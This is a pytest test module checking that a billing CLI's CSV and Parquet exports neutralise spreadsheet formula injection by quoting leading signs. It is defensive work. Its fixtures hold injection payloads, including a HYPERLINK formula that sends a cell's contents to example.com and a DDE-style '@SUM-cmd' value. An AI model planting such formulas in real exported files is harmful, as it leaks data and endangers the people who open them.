"""No cell of an export is a formula, whatever texts there are; numbers stay numbers, and price lists come back."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.cli.processes import Serving, serving
from tollkeeper.cli import spreadsheet
from tollkeeper.cli.reports.entry_forms import write_csv, write_parquet
from tollkeeper.cli.spreadsheet import CsvTable, inert, original
from tollkeeper.cli.times import parse_zone
from tollkeeper.v1 import admin_pb2

if TYPE_CHECKING:
    from collections.abc import Generator

ACCOUNT = "@SUM-cmd/A0"
NOTE = '=HYPERLINK("https://example.com/?x="&A1, "more")'
LIST = "-partner"
SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
FORMULA = re.compile("[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
NUMBER = re.compile("-?[0-9]+")
PRICES = f"""
note = '{NOTE}'
[[price]]
method = "GET"
path = "/v1/leads"
credits = 10
note = "+1 lead"
[[price]]
method = "GET"
path = "/v1/quoted"
credits = 0
note = "'-1 is a text"
"""


@pytest.fixture(scope="module")
def used(tmp_path_factory: pytest.TempPathFactory) -> Generator[Serving]:
    """A server on which every text that may be chosen by somebody begins as a formula does."""
    folder = tmp_path_factory.mktemp("spreadsheets")
    prices = folder / "prices.toml"
    prices.write_text(PRICES, encoding="utf-8")
    with serving(folder, "--prices", str(prices)) as server:
        server.json("prices", "publish", str(prices), f"--name={LIST}")
        server.json("account", "create", ACCOUNT)
        server.json("grant", ACCOUNT, "1000", "--note", NOTE)
        held = server.json("authorize", ACCOUNT, "GET", "/v1/leads")
        reservation = held["reservation"]["reservation_id"]
        server.json("commit", reservation, "--status", "200")
        server.json("refund", reservation, "3", "--note", "-3 for you")
        yield server


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    ("arguments", "guarded"),
    [
        (("statement", ACCOUNT, "--csv"), [f"'{NOTE}", "'-3 for you"]),
        (("consumption", "--csv"), [f"'{ACCOUNT}"]),
        (("totals", "--csv"), []),
        (("overview", ACCOUNT, "--csv"), []),
        (("prices", "show", "--csv"), ["'+1 lead", "''-1 is a text", f"'{NOTE}"]),
        (("prices", "show", "--csv", f"--name={LIST}"), [f"'{LIST}"]),
    ],
    ids=["statement", "consumption", "totals", "overview", "prices", "prices of a name"],
)
def test_no_cell_of_a_csv_is_a_formula(
    used: Serving, arguments: tuple[str, ...], guarded: list[str]
) -> None:
    ended = used.run(*arguments)

    rows = cells(ended.out)
    found = [cell for row in rows for cell in row]
    assert (ended.code, len(rows) > 1) == (0, True)
    assert [each for each in found if FORMULA.match(each) and not NUMBER.fullmatch(each)] == []
    assert set(guarded) <= set(found)


def test_negative_credits_of_a_csv_stay_numbers(used: Serving) -> None:
    rows = cells(used.run("statement", ACCOUNT, "--csv").out)

    column = rows[0].index("credits")
    assert [row[column] for row in rows[1:]] == ["1000", "-10", "3"]


def test_a_file_of_a_statement_has_no_formula_either(used: Serving, tmp_path: Path) -> None:
    parquet: Any = pytest.importorskip("pyarrow.parquet")
    files = [tmp_path / "statement.csv", tmp_path / "statement.parquet"]
    for file in files:
        assert used.run("statement", ACCOUNT, "--output", str(file)).code == 0

    table = parquet.read_table(files[1])
    assert table.column("note").to_pylist() == [f"'{NOTE}", None, "'-3 for you"]
    assert table.column("credits").to_pylist() == [1000, -10, 3]
    in_csv = [row[10] for row in cells(files[0].read_text(encoding="utf-8"))[1:]]
    assert in_csv == [f"'{NOTE}", "", "'-3 for you"]


def test_every_text_of_an_entry_is_guarded_in_csv_and_in_parquet(tmp_path: Path) -> None:
    parquet: Any = pytest.importorskip("pyarrow.parquet")
    names = ("reservation_id", "grant_id", "method", "path", "note", "recurring_grant_id")
    entry = admin_pb2.Entry(sequence=1, credits=-5, **dict.fromkeys(names, "=1+1"))
    file, out = tmp_path / "entries.parquet", io.StringIO()

    write_csv([entry], out, parse_zone("UTC"))
    with file.open("wb") as opened:
        write_parquet([entry], opened)

    head, row = cells(out.getvalue())
    read = parquet.read_table(file).to_pylist()[0]
    assert {name: row[head.index(name)] for name in names} == dict.fromkeys(names, "'=1+1")
    assert {name: read[name] for name in names} == dict.fromkeys(names, "'=1+1")
    assert (row[head.index("credits")], read["credits"]) == ("-5", -5)


@pytest.mark.parametrize("sign", SIGNS)
def test_a_text_that_begins_with_a_sign_is_written_after_a_quote(sign: str) -> None:
    assert inert(f"{sign}1") == f"'{sign}1"
    assert inert(f"1{sign}1") == f"1{sign}1"


@given(st.text("'=+-@\t\r\n\uff1d\uff0b\uff0d\uff20a1 ", max_size=6))
def test_a_text_comes_back_as_it_was(text: str) -> None:
    assert original(inert(text)) == text
    assert not FORMULA.match(inert(text))


@given(st.text("'=+-@\t\uff1d\uff0b a1", max_size=6), st.integers())
def test_what_is_written_as_csv_is_read_as_it_was(text: str, number: int) -> None:
    out = io.StringIO()

    CsvTable(out, ("text", "number")).row(text, number)

    [_, [cell, digits]] = cells(out.getvalue())
    assert (original(cell), digits) == (text, str(number))


def test_a_price_list_can_be_published_again_as_it_was(used: Serving, tmp_path: Path) -> None:
    file = tmp_path / "partner.csv"
    shown = ("prices", "show", f"--name={LIST}")
    before = used.json(*shown)
    file.write_text(used.run(*shown, "--csv").out, encoding="utf-8")

    changes = used.run("prices", "diff", str(file), f"--name={LIST}")
    used.json("prices", "publish", str(file))
    after = used.json(*shown)

    assert changes.code == 0, changes
    keys = ("prices", "unlisted", "note", "name")
    assert {key: after.get(key) for key in keys} == {key: before.get(key) for key in keys}
    assert before["name"] == LIST
    assert int(after["version"]) > int(before["version"])


def test_there_is_one_writer_of_csv() -> None:
    folder = Path(spreadsheet.__file__).parents[2]

    writers = [
        file.name
        for file in folder.rglob("*.py")
        if re.search(r"csv_?\.\w*[wW]riter\(", file.read_text())
    ]

    assert writers == ["spreadsheet.py"]
